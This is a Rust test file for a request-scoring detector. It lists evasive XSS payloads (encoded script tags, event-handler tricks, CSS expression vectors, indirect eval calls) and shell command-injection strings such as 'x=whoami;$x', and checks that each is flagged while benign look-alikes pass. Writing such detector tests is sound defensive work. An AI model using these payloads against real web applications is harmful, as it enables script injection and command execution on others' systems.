//! Issue 12, session 29: XSS and command-injection shapes the families missed on the pool
//! (legacy handler names, unquoted-attribute break-outs, other encodings of markup, split or
//! stored sinks). Each shape is flagged as a query value at level 1 whatever its payload, and
//! its benign look-alike is not.

mod common;

use common::patterns_only;
use scoring::ScoreInput;

/// Every byte but ASCII letters and digits percent-encoded, as a browser's form would send it.
fn encode(value: &str) -> String {
    value.bytes().map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02X}") }).collect()
}

fn verdict(value: &str) -> scoring::verdict::ScoreAll {
    let text = format!("GET /search?q={}\n", encode(value));
    patterns_only().score_patterns(&ScoreInput { request_text: &text, headers: &[] })
}

fn assert_flagged(detector: &str, values: &[&str]) {
    let engine = patterns_only();
    for v in values {
        let r = verdict(v);
        assert_eq!(r.detector, detector, "{v:?} should be {detector}: {r:?}");
        assert!(r.score > engine.threshold(), "{v:?}: {r:?}");
    }
}

fn assert_passed(values: &[&str]) {
    let engine = patterns_only();
    for v in values {
        let r = verdict(v);
        assert!(r.score <= engine.threshold(), "{v:?} is benign: {r:?}");
    }
}

#[test]
fn handler_names_that_run_into_punctuation_are_xss() {
    assert_flagged(
        "xss",
        &["<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=prompt(7)>", "<video src=x onerror/=top.confirm(2)>", "<svg onload%=eval(atob(`YQ==`))>"],
    );
    assert_passed(&["<b>on sale!</b> = 20% off", "online!=offline (see docs)"]);
}

#[test]
fn a_handler_after_an_unquoted_value_is_xss() {
    assert_flagged(
        "xss",
        &["xyz onfocus=print(3)>", "width:1px;filter:glow onfilterchange=alert(1)>x</div>", "a.png autofocus onfocusin=self.prompt(9);"],
    );
    assert_passed(&["photo onload", "turn on the light=yes", "x onion=garlic"]);
}

#[test]
fn markup_in_other_encodings_is_xss() {
    assert_flagged(
        "xss",
        &[
            "+ADw-SCRIPT+AD4-confirm(5)+ADw-/SCRIPT+AD4-",
            "\u{bc}script\u{be}alert(4)\u{bc}/script\u{be}",
            "<IMGSRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058>",
            "<meta charset=\"x-imap4-modified-utf7\">&ADw-script&AD4-",
        ],
    );
    assert_passed(&["C++ADw- is not a word", "price \u{bc} lb", "&#1575;&#1604;&#1593;&#1585;&#1576;&#1610;&#1577;"]);
}

#[test]
fn split_or_disguised_script_elements_are_xss() {
    assert_flagged(
        "xss",
        &[
            "<<scr\\0ipt/src=//x.example/a.js></script>",
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">prompt(1)</x:script>",
            "<? echo('<SC');echo('RIPT>alert(3)</SCRIPT>'); ?>",
            "<b><script<b></b><confirm(1)</script </b>",
            "</titLe/</scRipt/--!>",
            "<img src=\"livescript:alert(1)\">",
        ],
    );
    assert_passed(&["a:script by mocha tests", "<b>scr</b> ipt", "</b></i>"]);
}

#[test]
fn obfuscated_css_script_vectors_are_xss() {
    assert_flagged(
        "xss",
        &[
            "<div style=\"x:ex/*a*/pression(alert(1))\">",
            "<x style=w:expression\\28write(1)\\29>",
            "<div style=\"binding: url(//x.example/b.xml#x)\">",
            "<style>@im\\port'//x.example/x.css';</style>",
        ],
    );
    assert_passed(&["the expression (a+b) is even", "<div style=\"color:red\">x</div>", "@import 'theme.css';"]);
}

#[test]
fn sinks_reached_without_their_name_at_the_call_are_xss() {
    assert_flagged(
        "xss",
        &[
            "x=eval;y=prompt;x(y(5))",
            "with(location)with(hash)eval(substring(1))",
            "eval.apply(null,[location.hash.slice(1)])",
            "{{x=1;y=2;a=x.toString(36)+y.toString(36);b=a.sub.call.call(0)}}",
        ],
    );
    assert_passed(&["a=evaluation; b=alert level", "with (location) in mind", "{{ user.name }}"]);
}

#[test]
fn a_command_stored_in_a_variable_and_run_is_command_injection() {
    assert_flagged("command-injection", &[";CMD=$'\\x69\\x64';$CMD", "|c=\"uname -a\";${c}", "x=whoami;$x"]);
    assert_passed(&["price=$5;$6 with tax", "a=b;c=d", "[Parameter(Mandatory=$true)]\n $User"]);
}
